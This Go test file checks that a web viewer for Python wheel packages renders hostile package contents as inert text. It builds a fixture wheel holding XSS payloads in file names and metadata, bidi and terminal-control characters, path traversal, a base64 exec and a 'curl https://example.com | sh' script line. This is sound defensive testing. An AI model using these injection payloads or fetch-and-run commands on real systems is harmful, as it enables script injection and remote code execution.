package browsertest

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/wheelscope/wheelscope/engine/pack"
	"github.com/wheelscope/wheelscope/engine/report"
)

// bait tries to leave text: each call of it would set a mark, load an address or
// show a dialog.
const bait = `"'><img src=x onerror="window.baited=1"><script>window.baited=1</script><a href="javascript:window.baited=1">x</a><svg onload=window.baited=1>&lt;b&gt;`

// hidden turns text around, hides in it and controls a terminal.
const hidden = "\u202egnp.\u2066\u200b\u00ad\x1b[31m\x07\u0085\u2028"

// hostileWheel has bait in every place where text of a package can reach the page.
func hostileWheel() []byte {
	code := "import os, base64\nos.system('" + `curl https://example.com/"><img src=x onerror=window.baited=1>` + "')  # " + strings.ReplaceAll(bait, "'", "") + hidden + "\n" +
		"exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnPGltZyBzcmM9eCBvbmVycm9yPXdpbmRvdy5iYWl0ZWQ9MT4nKQo='))\n"
	name := strings.ReplaceAll(bait, "/", "\u2215")
	inner := pack.Zip([]pack.File{{Name: name + "/" + hidden + name + ".py", Data: []byte(code)}, {Name: "../" + name, Data: []byte("x")}})
	meta := "Metadata-Version: 2.1\nVersion: 1.0\n"
	for _, field := range []string{"Name", "Summary", "Author", "Author-email", "Maintainer", "Maintainer-email", "License", "License-Expression", "Requires-Python", "Requires-Dist", "Provides-Extra", "Classifier"} {
		value := bait + hidden + field
		if field == "Name" {
			value = "demo"
		}
		meta += field + ": " + strings.ReplaceAll(value, "\u2028", "") + "\n"
	}
	meta += "Project-URL: " + bait + ", javascript:window.baited=1\nProject-URL: Home, https://example.com/" + bait + "\nHome-page: data:text/html," + bait + "\n"
	return pack.Zip([]pack.File{
		{Name: "demo/__init__.py", Data: []byte(code)},
		{Name: "demo/" + name + ".py", Data: []byte(code)},
		{Name: "demo/" + hidden + ".py", Data: []byte(code)},
		{Name: "demo/" + strings.Repeat("long", 800) + ".py", Data: []byte(code)},
		{Name: "demo/" + name + ".zip", Data: inner},
		{Name: name + "/twice.py", Data: []byte("x")},
		{Name: name + "/twice.py", Data: []byte("y")},
		{Name: "demo-1.0.data/scripts/" + name, Data: []byte("#!/bin/sh\ncurl https://example.com | sh # " + bait + "\n")},
		{Name: "demo-1.0.dist-info/METADATA", Data: []byte(meta + "\n" + bait + "\n")},
		{Name: "demo-1.0.dist-info/WHEEL", Data: []byte("Wheel-Version: 1.0\nTag: py3-none-" + bait + "\n")},
		{Name: "demo-1.0.dist-info/entry_points.txt", Data: []byte("[console_scripts]\n" + bait + " = demo:" + bait + "\n[" + bait + "]\nx = demo\n")},
		{Name: "demo-1.0.dist-info/RECORD", Data: []byte("\"" + strings.ReplaceAll(bait, `"`, `""`) + "\",sha256=" + bait + ",1\n")},
		{Name: "demo-1.0.dist-info/RECORD.jws", Data: []byte(bait)},
	})
}

// TestHostileText: names, fields, code and what is inside nested archives are
// text wherever the page shows them. Nothing runs, loads, hides or reorders.
func TestHostileText(t *testing.T) {
	file := "demo-1.0-py3-none-any.whl"
	data := hostileWheel()
	path := save(t, file, data)
	x := open(t)
	before := eval[int](x, `document.querySelectorAll("script, iframe, object, embed, base, link").length`)
	require.Equal(t, "done", x.settle(func() { x.drop(path) }), x.text(`[data-view="failed"]`))
	want := native(t, file, data)
	same(t, want, x.export())
	var r report.Report
	require.NoError(t, json.Unmarshal(want, &r))
	require.Greater(t, len(r.Files), 13)
	require.NotEmpty(t, r.Behaviors)
	require.NotEmpty(t, r.Oddities)

	// All that is folded away is opened, so that it is shown as well.
	eval[int](x, `Array.from(document.querySelectorAll("details"), (d) => d.open = true).length`)
	eval[bool](x, `new Promise((done) => setTimeout(() => done(true), 300))`)
	require.False(t, eval[bool](x, `"baited" in window`), "something of the package ran")
	require.Equal(t, before, eval[int](x, `document.querySelectorAll("script, iframe, object, embed, base, link").length`))
	for what, script := range map[string]string{
		"pictures of the package":  `Array.from(document.querySelectorAll("img, svg[onload], [src]"), (e) => e.outerHTML).filter((h) => h.includes("baited"))`,
		"handlers":                 `Array.from(document.querySelectorAll("*")).flatMap((e) => Array.from(e.attributes, (a) => a.name)).filter((n) => n.startsWith("on"))`,
		"links that are no pages":  `Array.from(document.querySelectorAll('[data-view="result"] :is([href], [action], [formaction])'), (e) => e.getAttribute("href") ?? e.getAttribute("action") ?? e.getAttribute("formaction")).filter((h) => /^\s*(javascript|data|vbscript|blob|file):/i.test(h))`,
		"links into the package's": `Array.from(document.querySelectorAll("a[href]"), (e) => e.href).filter((h) => h.includes("example.com"))`,
		"characters that reorder":  `(document.querySelector('[data-view="result"]').innerText.match(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g) ?? [])`,
		"characters that control":  `(document.querySelector('[data-view="result"]').innerText.match(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g) ?? [])`,
	} {
		require.Empty(t, eval[[]string](x, script), what)
	}
	// It is there, as text.
	shown := x.text(`[data-view="result"]`)
	for _, text := range []string{`<img src=x onerror="window.baited=1">`, "<script>window.baited=1</script>", "&lt;b&gt;"} {
		require.Contains(t, shown, text)
	}
	require.LessOrEqual(t, eval[int](x, `document.documentElement.scrollWidth - document.documentElement.clientWidth`), 0, "long names do not widen the page")
	x.shows(want)
	x.quiet()
}
